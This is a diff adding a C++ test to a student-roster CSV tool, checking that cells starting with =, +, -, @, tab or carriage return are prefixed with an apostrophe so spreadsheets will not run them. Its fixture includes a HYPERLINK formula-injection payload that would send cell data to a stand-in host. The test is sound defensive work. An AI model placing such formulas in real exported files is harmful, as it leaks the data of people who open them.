@@ -91,6 +91,37 @@ TEST_CASE("roster: the mixed roster keeps every row in order, with its line and 
   CHECK(r.err.find("第 8 行：“去向”的值“火星”无法识别") != std::string::npos);
 }
 
+TEST_CASE("roster: cells a spreadsheet would run (= + - @ TAB CR) come back with a leading ' and nothing else changed") {
+  auto r = xueshe_run({"roster", source_path("tests/roster/formulas.csv"), "--today", "2022-07-01"});
+  INFO(r.err);
+  REQUIRE(r.exit_code == 0);
+  for (const auto& row : xueshe::testing::csv_rows(r.out))
+    for (const std::string& cell : row) {
+      INFO("cell <" << cell << ">");
+      CHECK((cell.empty() || std::string("=+-@\t\r\n").find(cell.front()) == std::string::npos));
+    }
+  Table t = parse_csv(r.out);
+  REQUIRE(t.rows.size() == 5);
+  CHECK(t.header.at(14) == "'=SUM(1+1)");
+  CHECK(t.at(0, "姓名") == "'=1+2");
+  CHECK(t.at(0, "备注") == "'@SUM(A1:A2)");
+  CHECK(t.at(1, "学号") == "'+8613800000000");
+  CHECK(t.at(1, "姓名") == "'-2+3");
+  CHECK(t.at(1, "学院") == "'\t信息工程学院");
+  CHECK(t.at(1, "备注") == "''已有引号");
+  CHECK(t.at(2, "姓名") == "'=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"点击\")");
+  CHECK(t.at(2, "备注") == "'\r回车开头");
+  CHECK(t.at(4, "学号") == "'-2022305");
+  CHECK(t.at(4, "去向") == "'=火星");
+  for (std::size_t i = 0; i < 4; ++i) CHECK(t.at(i, "路线") == "employer_org");
+  // The bytes as written: the prefix inside the quotes, a row with nothing to mark unchanged.
+  CHECK(r.out.find("\r\n2022301,'=1+2,信息工程学院,") != std::string::npos);
+  CHECK(r.out.find("\r\n2022303,\"'=HYPERLINK(\"\"http://x.invalid/?d=\"\"&A1,\"\"点击\"\")\",") != std::string::npos);
+  CHECK(r.out.find(",\"'\r回车开头\",\"'-1,5\",") != std::string::npos);
+  CHECK(r.out.find("\r\n2022304,李四,信息工程学院,已就业,2022-06-30,2000-03-15,否,否,否,否,是,其他,未完成,普通备注,a=b,") !=
+        std::string::npos);
+}
+
 TEST_CASE("roster: --summary writes the summary as JSON instead") {
   const std::string summary = temp_path("summary.json");
   auto r = xueshe_run({"roster", source_path("tests/roster/mixed.csv"), "--today", "2022-07-01", "--summary", summary});
